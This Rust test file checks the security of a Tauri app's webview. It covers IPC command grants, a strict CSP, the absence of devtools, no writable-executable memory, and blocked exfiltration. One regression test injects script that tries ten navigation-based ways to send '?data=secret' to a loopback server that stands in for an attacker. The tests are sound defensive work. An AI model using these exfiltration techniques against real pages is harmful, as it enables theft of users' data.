//! The app's IPC surface, checked from its sources and in the running app.
//!
//! Script that gets into the webview (a hostile QR payload rendered by
//! mistake, a compromised dependency of the UI) can call every command a
//! capability grants, so the set of reachable commands must be exactly the
//! set the UI calls: anything more is attack surface with no purpose. The
//! table printed here (`cargo test ipc -- --nocapture`) lists each command,
//! the permission that allows it and the capabilities that grant it.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::util::TestVault;

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn read(relative: &str) -> String {
    let path = root().join(relative);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn files_in(relative: &str, extension: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut folders = vec![root().join(relative)];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap_or_else(|e| panic!("{folder:?}: {e}")) {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|e| e == extension) {
                found.push(path);
            }
        }
    }
    found.sort();
    found
}

/// The commands the app registers: the one list in `src-tauri/ipc.rs`.
fn registered_commands() -> BTreeSet<String> {
    tessera_app::ipc::COMMANDS
        .iter()
        .map(|name| (*name).to_owned())
        .collect()
}

/// Permission identifier -> the commands it allows, from the hand-written
/// files in src-tauri/permissions.
fn permissions() -> BTreeMap<String, Vec<String>> {
    let mut all = BTreeMap::new();
    for file in files_in("src-tauri/permissions", "toml") {
        let text = std::fs::read_to_string(&file).unwrap();
        let parsed: toml::Table = text
            .parse()
            .unwrap_or_else(|e| panic!("{}: {e}", file.display()));
        for permission in parsed["permission"].as_array().expect("[[permission]]") {
            let id = permission["identifier"].as_str().unwrap().to_owned();
            let allowed = permission
                .get("commands")
                .and_then(|c| c.get("allow"))
                .and_then(|a| a.as_array())
                .map(|a| a.iter().map(|c| c.as_str().unwrap().to_owned()).collect())
                .unwrap_or_default();
            assert!(
                permission
                    .get("commands")
                    .and_then(|c| c.get("deny"))
                    .is_none(),
                "{id}: deny lists are not used here; a command is either granted or absent"
            );
            assert!(
                all.insert(id.clone(), allowed).is_none(),
                "permission {id} is defined twice"
            );
        }
    }
    all
}

/// Capability identifier -> its permission identifiers.
fn capabilities() -> BTreeMap<String, Vec<String>> {
    let mut all = BTreeMap::new();
    for file in files_in("src-tauri/capabilities", "json") {
        let parsed: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap())
            .unwrap_or_else(|e| panic!("{}: {e}", file.display()));
        let id = parsed["identifier"].as_str().unwrap().to_owned();
        let granted = parsed["permissions"]
            .as_array()
            .expect("a permissions list")
            .iter()
            .map(|p| {
                p.as_str()
                    .unwrap_or_else(|| panic!("{id}: scoped permission objects are not used"))
                    .to_owned()
            })
            .collect();
        all.insert(id, granted);
    }
    all
}

/// The command names the UI calls: the first argument of every `call(`
/// and `invoke(` in ui/src (tests excluded). The one `invoke(command, …)`
/// inside `call` itself passes its parameter on, and is the only call
/// allowed a computed name.
fn ui_invokes() -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for file in files_in("ui/src", "ts") {
        if file.to_string_lossy().ends_with(".test.ts") {
            continue;
        }
        let source = std::fs::read_to_string(&file).unwrap();
        for function in ["call", "invoke"] {
            let mut rest = source.as_str();
            while let Some(at) = rest.find(function) {
                let before = source.len() - rest.len() + at;
                rest = &rest[at + function.len()..];
                let preceded_by_name = source[..before]
                    .chars()
                    .next_back()
                    .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.');
                let Some(args) = rest.strip_prefix('(') else {
                    continue;
                };
                if preceded_by_name {
                    continue;
                }
                let args = args.trim_start();
                if let Some(quoted) = args.strip_prefix('"') {
                    names.insert(quoted[..quoted.find('"').unwrap()].to_owned());
                } else if !(function == "invoke" && args.starts_with("command")) {
                    panic!(
                        "{}: {function} with a computed command name cannot be checked: {}",
                        file.display(),
                        &args[..args.len().min(40)]
                    );
                }
            }
        }
    }
    names
}

#[test]
fn every_reachable_command_is_one_the_ui_uses_and_nothing_else_is_granted() {
    let registered = registered_commands();
    let permissions = permissions();
    let capabilities = capabilities();
    let used = ui_invokes();

    // command -> (permission, capabilities granting it)
    let mut reachable: BTreeMap<String, (String, Vec<String>)> = BTreeMap::new();
    let mut problems = Vec::new();
    for (capability, granted) in &capabilities {
        for permission in granted {
            match permissions.get(permission) {
                Some(commands) => {
                    for command in commands {
                        reachable
                            .entry(command.clone())
                            .or_insert_with(|| (permission.clone(), Vec::new()))
                            .1
                            .push(capability.clone());
                    }
                }
                // Tauri's own (`core:…`) and plugins' permissions: none is
                // needed, so any is a mistake to look at.
                None => problems.push(format!(
                    "capability {capability} grants {permission}, which is not one of Tessera's permissions"
                )),
            }
        }
    }

    println!("{:<24} {:<30} capabilities", "command", "permission");
    for (command, (permission, granted_by)) in &reachable {
        println!("{command:<24} {permission:<30} {}", granted_by.join(", "));
    }

    for command in reachable.keys() {
        if !used.contains(command) {
            problems.push(format!("{command} is reachable but the UI never calls it"));
        }
        if !registered.contains(command) {
            problems.push(format!("{command} is granted but not registered in ipc.rs"));
        }
    }
    for command in &used {
        if !reachable.contains_key(command) {
            problems.push(format!(
                "the UI calls {command}, which no capability grants"
            ));
        }
    }
    for command in &registered {
        if !reachable.contains_key(command) {
            problems.push(format!(
                "{command} is registered but no capability grants it (dead code)"
            ));
        }
    }
    for (permission, commands) in &permissions {
        if !capabilities.values().flatten().any(|p| p == permission) {
            problems.push(format!(
                "permission {permission} ({}) is granted by no capability",
                commands.join(", ")
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(!used.is_empty(), "no invoke call found in ui/src");
}

#[test]
fn the_configured_csp_is_strict_and_release_builds_have_no_devtools() {
    let config: Value = serde_json::from_str(&read("tauri.conf.json")).unwrap();
    let csp = &config["app"]["security"]["csp"];
    let directive = |name: &str| csp[name].as_str().unwrap_or("").to_owned();
    assert_eq!(directive("default-src"), "'none'");
    assert_eq!(
        directive("script-src"),
        "'self'",
        "no inline or eval'd script"
    );
    assert_eq!(directive("object-src"), "'none'");
    assert_eq!(directive("base-uri"), "'none'");
    assert_eq!(directive("frame-ancestors"), "'none'");
    for (name, value) in csp.as_object().expect("the CSP as directives") {
        let value = value.as_str().unwrap();
        assert!(
            !value.contains("unsafe-"),
            "{name} allows {value}: no unsafe-* source"
        );
        for source in value.split_whitespace() {
            let remote = source.starts_with("http") || source.contains("://") || source == "*";
            assert!(
                !remote || source == "http://ipc.localhost",
                "{name} allows remote content from {source}"
            );
        }
    }
    assert_eq!(config["app"]["security"]["freezePrototype"], true);
    // The dangerous switch is never on in the config.
    assert!(config["app"]["security"]["dangerousDisableAssetCspModification"].is_null());

    // Release builds get the web inspector only through tauri's `devtools`
    // feature, and no window asks for it.
    let manifest: toml::Table = read("Cargo.toml").parse().unwrap();
    let tauri = &manifest["dependencies"]["tauri"];
    let features: Vec<&str> = tauri
        .get("features")
        .and_then(|f| f.as_array())
        .map(|f| f.iter().filter_map(|v| v.as_str()).collect())
        .unwrap_or_default();
    assert!(
        !features.contains(&"devtools"),
        "tauri features: {features:?}"
    );
    for window in config["app"]["windows"].as_array().unwrap() {
        assert_ne!(window["devtools"], true, "a window asks for devtools");
    }
}

#[test]
fn the_running_page_blocks_inline_script_and_remote_content() {
    let vault = TestVault::new();
    let app = crate::app::start(&vault);
    app.wait_for(
        "[data-testid=setup-form]",
        std::time::Duration::from_secs(60),
    );
    let outcome = app.execute_async(
        "const done = arguments[arguments.length - 1];\
         const seen = new Set();\
         document.addEventListener('securitypolicyviolation', (e) => seen.add(e.effectiveDirective));\
         const script = document.createElement('script');\
         script.textContent = 'window.inlineRan = true;';\
         document.body.append(script);\
         const picture = new Image();\
         picture.src = 'https://example.com/tracker.png';\
         document.body.append(picture);\
         fetch('https://example.com/').catch(() => undefined);\
         setTimeout(() => done({ inlineRan: window.inlineRan === true, seen: [...seen].sort() }), 1000);",
    );
    assert_eq!(outcome["inlineRan"], false, "{outcome}");
    let seen: Vec<&str> = outcome["seen"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for directive in ["connect-src", "img-src"] {
        assert!(
            seen.contains(&directive),
            "{directive} not enforced: {seen:?}"
        );
    }
    assert!(
        seen.iter().any(|d| d.starts_with("script-src")),
        "inline script not reported: {seen:?}"
    );
}

/// The page's script runs without a JIT compiler (`JSC_useJIT=0`, set in
/// src-tauri/webview.rs): the web process then maps no memory that is both
/// writable and executable, which is what a hostile script would need to
/// run code of its own. With the JIT on it maps one such region.
#[test]
fn the_web_process_maps_no_writable_executable_memory() {
    let vault = TestVault::new();
    let app = crate::app::start(&vault);
    app.wait_for("[data-testid=setup-form]", crate::app::START);
    let web = crate::app::process_tree(crate::app::app_pid(&app))
        .into_iter()
        .find(|pid| crate::app::command_name(*pid).starts_with("WebKitWebProc"))
        .expect("the app's web process");
    let maps = std::fs::read_to_string(format!("/proc/{web}/maps")).unwrap();
    let writable_executable: Vec<&str> = maps
        .lines()
        .filter(|line| line.split_whitespace().nth(1) == Some("rwxp"))
        .collect();
    assert!(
        writable_executable.is_empty(),
        "writable and executable mappings: {writable_executable:?}"
    );
}

/// Regression (issue 21): the CSP stops `fetch` and images, but a page
/// script could still send what it read out by navigating the window
/// (`location.href = 'http://…?data=…'`), or by opening a window on such
/// an address; and WebKit connects to a clicked link's server before the
/// navigation is even decided. src-tauri/navigation.rs keeps the window on
/// the app's own page, refuses new windows, and gives the page no network
/// at all. A server on 127.0.0.1 stands for the outside: every way a
/// script or a click has to leave the page is tried, and none reaches it,
/// nor leaves the app's page or opens a window.
#[test]
fn regression_a_page_script_cannot_send_data_out_by_navigating() {
    use std::io::{BufRead, BufReader};
    use std::net::TcpListener;
    use std::time::{Duration, Instant};

    let server = TcpListener::bind("127.0.0.1:0").expect("a loopback listener");
    server.set_nonblocking(true).unwrap();
    let outside = format!("http://127.0.0.1:{}", server.local_addr().unwrap().port());
    let vault = TestVault::new();
    let app = crate::app::start(&vault);
    app.wait_for("[data-testid=setup-form]", crate::app::START);
    let origin = app.execute("return location.origin;");
    let origin = origin.as_str().unwrap_or_default().to_owned();
    assert!(!origin.is_empty(), "the page has an origin");

    // Elements for real clicks, set up from a script as an injected one
    // would.
    app.execute(&format!(
        "const add = (html) => {{ const box = document.createElement('div'); box.innerHTML = html; document.body.prepend(box); }};\
         add('<a id=\"out-blank\" target=\"_blank\" href=\"{outside}/blank-click?data=secret\">out</a>');\
         add('<a id=\"out-link\" href=\"{outside}/link-click?data=secret\" ping=\"{outside}/ping?data=secret\">out</a>');\
         add('<button id=\"out-open\" type=\"button\">out</button>');\
         document.getElementById('out-open').addEventListener('click', () => window.open('{outside}/open-click?data=secret'));\
         return null;"
    ));
    // Every way a script has to leave the page or open another.
    let attempts = [
        format!("location.href = '{outside}/href?data=secret';"),
        format!("location.assign('{outside}/assign?data=secret');"),
        format!("location.replace('{outside}/replace?data=secret');"),
        format!("window.open('{outside}/open?data=secret');"),
        format!(
            "const a = document.createElement('a'); a.target = '_blank'; a.href = '{outside}/blank?data=secret';\
             document.body.append(a); a.click();"
        ),
        format!(
            "const a = document.createElement('a'); a.href = '{outside}/link?data=secret';\
             document.body.append(a); a.click();"
        ),
        format!(
            "const f = document.createElement('form'); f.action = '{outside}/form'; f.method = 'get';\
             const i = document.createElement('input'); i.name = 'data'; i.value = 'secret'; f.append(i);\
             document.body.append(f); f.submit();"
        ),
        format!(
            "const m = document.createElement('meta'); m.httpEquiv = 'refresh';\
             m.content = '0;url={outside}/refresh?data=secret'; document.head.append(m);"
        ),
        format!(
            "const f = document.createElement('iframe'); f.src = '{outside}/iframe?data=secret';\
             document.body.append(f);"
        ),
        format!(
            "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{outside}/';\
             document.head.append(l);"
        ),
    ];
    // The server reads what each connection asks for and hangs up, so a
    // navigation that got out fails rather than waits for an answer (and
    // holds up WebDriver, which waits for pages to load). It listens
    // until every attempt below has had 2 s more.
    let listen_for =
        Duration::from_millis(300 * (attempts.len() as u64 + 3) + 500) + Duration::from_secs(2);
    let listening = std::thread::spawn(move || {
        let deadline = Instant::now() + listen_for;
        let mut reached = Vec::new();
        while Instant::now() < deadline {
            match server.accept() {
                Ok((stream, _)) => {
                    stream.set_nonblocking(false).unwrap();
                    stream
                        .set_read_timeout(Some(Duration::from_secs(1)))
                        .unwrap();
                    let mut line = String::new();
                    let _ = BufReader::new(stream).read_line(&mut line);
                    reached.push(line.trim().to_owned());
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    std::thread::sleep(Duration::from_millis(20));
                }
                Err(e) => panic!("the listener failed: {e}"),
            }
        }
        reached
    });
    // From a timer, 300 ms apart: the script returns at once, as an
    // injected one would, and each attempt has time to start its request.
    let steps: Vec<String> = attempts
        .iter()
        .map(|attempt| format!("() => {{ {attempt} }}"))
        .collect();
    app.execute(&format!(
        "[{}].forEach((step, i) => setTimeout(step, 300 * i)); return null;",
        steps.join(", ")
    ));
    std::thread::sleep(Duration::from_millis(300 * attempts.len() as u64 + 500));
    // Real clicks: a user's gesture, which WebKit lets open windows.
    for id in ["out-blank", "out-link", "out-open"] {
        if let Some(element) = app.find_all(&format!("#{id}")).into_iter().next() {
            element.click();
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    let reached = listening.join().expect("the listener");
    assert!(
        reached.is_empty(),
        "the page reached the outside: {reached:?}"
    );
    // Still the app, in its one window.
    let href = app.execute("return location.href;");
    assert!(
        href.as_str().is_some_and(|h| h.starts_with(&origin)),
        "the window shows {href}, not {origin}"
    );
    app.wait_for("[data-testid=setup-form]", crate::app::SHORT);
    assert_eq!(app.window_handles().len(), 1, "a window was opened");
}
